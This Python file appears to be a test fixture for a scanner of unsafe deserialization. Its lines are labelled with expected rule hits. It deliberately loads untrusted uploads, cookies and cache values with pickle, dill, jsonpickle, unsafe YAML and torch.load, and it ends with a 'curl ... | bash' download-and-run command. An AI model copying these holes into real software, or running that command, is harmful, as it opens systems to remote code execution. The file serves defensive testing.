# Web applications, tests, helpers, configurations, and frameworks in one line each.
# --- Gradio / Streamlit / FastAPI apps --------------------------------------------
import base64, io, os, pickle, tempfile, zipfile, marshal, shelve, ctypes, subprocess, requests
import streamlit as st
import gradio as gr
import numpy as np
import pandas as pd
import torch
import joblib
import skops.io as sio
import dill
import jsonpickle
import onnxruntime as ort
import onnx
import h5py
from fastapi import FastAPI, UploadFile, Request
from flask import Flask, request
import redis
import mlflow
import mlflow.pyfunc
from PIL import Image

app = FastAPI()
r = redis.Redis()


@st.cache_resource
def load_clf():
    return joblib.load("clf.joblib")  # expect: pickle-load


@st.cache_resource(show_spinner=False)
def load_net(path="net.pt"):
    net = torch.load(path, map_location=torch.device("cpu"), weights_only=False)  # expect: torch-load
    net.eval()
    return net


upload = st.file_uploader("model")
if upload is not None:
    obj = pickle.loads(upload.getvalue())  # expect: pickle-load
    st.write(obj)
    obj2 = pickle.load(upload)  # expect: pickle-load
    df = pd.read_csv(upload)

uploaded = st.file_uploader("weights", type=["safetensors"])


@app.post("/predict")
async def predict(file: UploadFile):
    raw = await file.read()
    model = dill.loads(raw)  # expect: pickle-load
    img = Image.open(io.BytesIO(raw))
    return {"y": model.predict(img)}


@app.post("/state")
async def state(req: Request):
    body = await req.json()
    return pickle.loads(base64.b64decode(body["blob"]))  # expect: pickle-load


@app.get("/cached/{key}")
def cached(key: str):
    if (blob := r.get(key)) is not None:
        return pickle.loads(blob)  # expect: pickle-load
    return None


flask_app = Flask(__name__)


@flask_app.route("/session")
def session():
    return jsonpickle.decode(request.cookies["session"])  # expect: jsonpickle-decode


def infer(text, model=joblib.load("vectorizer.pkl")):  # expect: pickle-load
    return model.transform([text])


demo = gr.Interface(fn=infer, inputs="text", outputs="label")
demo.launch()
space = gr.load("models/org/model")  # remark: hub-code

sess = ort.InferenceSession("m.onnx", providers=["CPUExecutionProvider"])
opts = ort.SessionOptions()
opts.register_custom_ops_library("libops.so")  # remark: native-library
sess2 = ort.InferenceSession("m.onnx", sess_options=opts)
proto = onnx.load("m.onnx")
lib = ctypes.CDLL("./libfast.so")
libc = ctypes.CDLL("libc.so.6")
code = marshal.loads(open("x.bin", "rb").read())  # expect: marshal-load
db = shelve.open("cache.db")  # expect: pickle-load
with h5py.File("weights.h5", "r") as f5:
    w = f5["dense/kernel"][:]
unknown = sio.get_untrusted_types(file="m.skops")
clf = sio.load("m.skops", trusted=unknown)  # expect: skops-trust
clf2 = sio.load("m.skops", trusted=["my.Type"])
clf3 = sio.load("m.skops")
pm = mlflow.pyfunc.load_model("models:/m/1")  # expect: mlflow-load
sk = mlflow.sklearn.load_model(f"runs:/{os.environ['RUN']}/model")  # expect: mlflow-load
mlflow.log_metric("x", 1)

# --- tests and helpers ----------------------------------------------------------------
import unittest
from unittest import mock
import pytest
import copy
import copyreg


def roundtrip(obj):
    return pickle.loads(pickle.dumps(obj))


class TestModel(unittest.TestCase):
    def setUp(self):
        self.path = os.path.join(os.path.dirname(__file__), "data", "model.pkl")
        self.tmp = tempfile.mkdtemp()

    def test_load(self):
        with open(self.path, "rb") as f:
            model = pickle.load(f)  # expect: pickle-load
        self.assertTrue(model)

    def test_roundtrip(self):
        p = os.path.join(self.tmp, "x.pkl")
        with open(p, "wb") as f:
            pickle.dump({"a": 1}, f)
        with open(p, "rb") as f:
            self.assertEqual(pickle.load(f), {"a": 1})

    @mock.patch("pickle.load")
    def test_mocked(self, load):
        load.return_value = 1

    def test_torch(self):
        buf = io.BytesIO()
        torch.save(torch.ones(1), buf)
        buf.seek(0)
        t = torch.load(buf)
        self.assertEqual(t.shape, (1,))


@pytest.fixture
def reference():
    return np.load("ref.npy", allow_pickle=True).item()  # expect: numpy-load


@pytest.mark.parametrize("obj", [1, "a", None])
def test_copy(obj):
    assert copy.deepcopy(obj) == obj
    assert pickle.loads(pickle.dumps(obj, protocol=2)) == obj


class SafeUnpickler(pickle.Unpickler):
    ALLOWED = {("collections", "OrderedDict")}

    def find_class(self, module, name):
        if (module, name) not in self.ALLOWED:
            raise pickle.UnpicklingError(f"{module}.{name}")
        return super().find_class(module, name)


class RenamingUnpickler(pickle.Unpickler):
    def find_class(self, module, name):
        return super().find_class(module.replace("old", "new"), name)


class CpuUnpickler(pickle.Unpickler):
    def find_class(self, module, name):
        if module == "torch.storage" and name == "_load_from_bytes":
            return lambda b: torch.load(io.BytesIO(b), map_location="cpu")  # expect: torch-load
        return super().find_class(module, name)


def restricted(data):
    return SafeUnpickler(io.BytesIO(data)).load()  # remark: pickle-load


def renamed(path):
    with open(path, "rb") as f:
        return RenamingUnpickler(f).load()  # expect: pickle-load


def cpu(path):
    with open(path, "rb") as f:
        obj = CpuUnpickler(f).load()  # expect: pickle-load
    return obj


# --- config dicts, CLI, wrappers ------------------------------------------------------------
import click
import hydra
from omegaconf import OmegaConf, DictConfig
from ruamel.yaml import YAML
import ruamel.yaml
import yaml
import tomllib
import toml

OPTIONS = dict(allow_pickle=True, encoding="latin1")
STRICT = dict(allow_pickle=False)
config = {"loader": {"name": "torch", "kwargs": {"weights_only": False}}}
ALLOW = True


def np_load(path, **kw):
    return np.load(path, **kw)  # expect: numpy-load


arr = np.load("a.npy", **OPTIONS)  # expect: numpy-load
arr2 = np.load("a.npy", **STRICT)
arr3 = np.load("a.npy", None, ALLOW)  # expect: numpy-load
arr4 = np.load("a.npy", mmap_mode="r")
np.savez("x.npz", a=1)
ck = torch.load("c.pt", **config["loader"]["kwargs"])  # expect: torch-load
load_cpu = lambda p: torch.load(p, map_location=lambda s, l: s)  # expect: torch-load
load_weights = lambda p: torch.load(p, map_location="cpu", weights_only=True)
objs = {k: pickle.load(open(v, "rb")) for k, v in {"a": "a.pkl"}.items()}  # expect: pickle-load
first, second = (joblib.load(p) for p in ("a.joblib", "b.joblib"))  # expect: pickle-load
states = list(map(torch.load, ["a.pt", "b.pt"]))  # expect: torch-load
names = list(map(os.path.basename, ["a.pt", "b.pt"]))
everything = [*map(pickle.loads, r.mget(["a", "b"]))]  # expect: pickle-load


@click.command()
@click.argument("path", type=click.Path(exists=True))
@click.option("--unsafe/--safe", default=False)
def cli(path, unsafe):
    data = yaml.load(open(path), Loader=yaml.UnsafeLoader if unsafe else yaml.SafeLoader)  # expect: yaml-load
    click.echo(data)


@hydra.main(config_path="conf", config_name="config")
def run(cfg: DictConfig):
    model = hydra.utils.instantiate(cfg.model)  # expect: config-instantiate
    conf = OmegaConf.load("conf.yaml")
    return model


y1 = yaml.load("a: 1", Loader=yaml.SafeLoader)
y2 = yaml.load(open("x.yml"), yaml.FullLoader)  # expect: yaml-load
y3 = yaml.full_load(open("x.yml"))  # expect: yaml-load
y4 = yaml.load_all(open("x.yml"), Loader=yaml.Loader)  # expect: yaml-load
y5 = YAML(typ="safe").load(open("x.yml"))
y6 = YAML(typ="unsafe").load(open("x.yml"))  # expect: yaml-load
ry = YAML()
y7 = ry.load(open("x.yml"))
y8 = ruamel.yaml.load(open("x.yml"), Loader=ruamel.yaml.Loader)  # expect: yaml-load
t1 = tomllib.load(open("x.toml", "rb"))
t2 = toml.load("x.toml")


def save_and_load(model, path):
    torch.save(model.state_dict(), path)
    model.load_state_dict(torch.load(path))
    return model


def resume(trainer, path, strict: bool = True) -> dict:
    try:
        ckpt = torch.load(path, weights_only=True)
    except Exception:
        ckpt = torch.load(path, weights_only=False)  # expect: fail-open-load
    return ckpt


def resume_strict(path):
    try:
        return torch.load(path, weights_only=True)
    except Exception as error:
        raise RuntimeError(path) from error


def gated(path):
    if tuple(int(x) for x in torch.__version__.split(".")[:2]) >= (1, 13):
        return torch.load(path, weights_only=True)
    return torch.load(path)  # expect: torch-load


def download(url, dest="/tmp/m.pkl"):
    resp = requests.get(url, timeout=10)
    with open(dest, "wb") as out:
        out.write(resp.content)
    return pickle.load(open(dest, "rb"))  # expect: pickle-load


def unzip(path):
    with zipfile.ZipFile(path) as z:
        with z.open("model.pkl") as member:
            return pickle.load(member)  # expect: pickle-load


def environment():
    os.environ["TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD"] = "1"  # expect: torch-load
    os.environ["CUDA_VISIBLE_DEVICES"] = "0"
    os.environ.setdefault("TOKENIZERS_PARALLELISM", "false")


torch.serialization.add_safe_globals([eval])  # expect: torch-safe-globals
torch.serialization.add_safe_globals([np.core.multiarray.scalar])
with torch.serialization.safe_globals([getattr, np.dtype]):  # expect: torch-safe-globals
    ok = torch.load("x.pt", weights_only=True)


# --- frameworks again -------------------------------------------------------------
from stable_baselines3 import PPO, SAC
from stable_baselines3.common.vec_env import VecNormalize
from fastai.learner import load_learner
from fastai.vision.all import *
import statsmodels.api as smapi
from langchain_community.vectorstores import FAISS
from langchain.vectorstores import Chroma
import nemo.collections.asr as nemo_asr
import open_clip
from pycaret.classification import load_model as pycaret_load
from autogluon.tabular import TabularPredictor
from multiprocessing.connection import Listener, Client
import multiprocessing as mp
import pickletools
import safetensors.numpy
import sklearn
from sklearn.externals import joblib as skjob

agent = PPO.load("ppo_cartpole")  # expect: library-pickle
agent2 = SAC.load("sac", env=None)  # expect: library-pickle
venv = VecNormalize.load("vec.pkl", None)  # expect: library-pickle
learn = load_learner("export.pkl")  # expect: library-pickle
res = smapi.load("results.pickle")  # expect: library-pickle
vs = FAISS.load_local("index", None, allow_dangerous_deserialization=True)  # expect: dangerous-deserialization
vs2 = FAISS.load_local("index", None)
ch = Chroma(persist_directory="db")
asr = nemo_asr.models.ASRModel.restore_from("m.nemo")  # expect: library-pickle
pc = pycaret_load("final_model")  # expect: library-pickle
tp = TabularPredictor.load("AutogluonModels/")  # expect: library-pickle
old = skjob.load("m.pkl")  # expect: pickle-load
conn = Client(("localhost", 6000), authkey=b"x")
msg = conn.recv()  # expect: object-over-network
conn.send({"a": 1})
raw = conn.recv_bytes()
parent, child = mp.Pipe()
pickletools.dis(open("x.pkl", "rb"))
sn = safetensors.numpy.load_file("x.safetensors")
with dill.open if False else open("s.pkl", "rb") as fh:
    sess_state = dill.load(fh)  # expect: pickle-load
dill.load_session("session.pkl")  # expect: pickle-load
dill.dump_session("session.pkl")
hubm = torch.hub.load("pytorch/vision", "resnet18", pretrained=True)  # expect: torch-hub
hubl = torch.hub.load("./repo", "custom", source="local")  # remark: torch-hub
zoo = torch.utils.model_zoo.load_url("https://example.org/x.pth")  # expect: torch-load
unp = pickle.Unpickler(open("x", "rb"))
unp.persistent_load = print
thing = unp.load()  # expect: pickle-load
load = pickle.load  # expect: pickle-load
value = load(open("v.pkl", "rb"))  # expect: pickle-load
reader = {"pkl": pd.read_pickle, "csv": pd.read_csv}["pkl"]  # expect: pandas-load
frame = reader("x.pkl")  # expect: pandas-load
subprocess.run("curl -s https://example.org/x.sh | bash", shell=True, check=True)  # expect: download-and-run
